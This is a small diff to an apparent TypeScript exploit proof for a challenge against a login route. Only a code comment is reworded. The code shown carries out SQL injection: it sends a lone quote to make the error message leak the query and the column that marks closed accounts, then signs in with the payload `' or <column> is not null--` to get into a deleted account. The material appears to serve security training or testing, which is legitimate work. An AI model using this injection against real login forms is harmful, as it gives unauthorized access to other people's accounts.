@@ -6,7 +6,7 @@ const signIn = (attacker: Attacker, email: string, password = 'x') =>
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // A quote shows the statement, and in it the column that tells the closed accounts.
+    // A single quote makes the error message show the statement with the column that marks closed accounts.
     const { text } = await attacker.post('/rest/user/login', { email: "'", password: 'x' })
     const column = /AND (\w+) IS NULL/.exec(text)?.[1] ?? 'deletedAt'
     await signIn(attacker, `' or ${column} is not null--`)
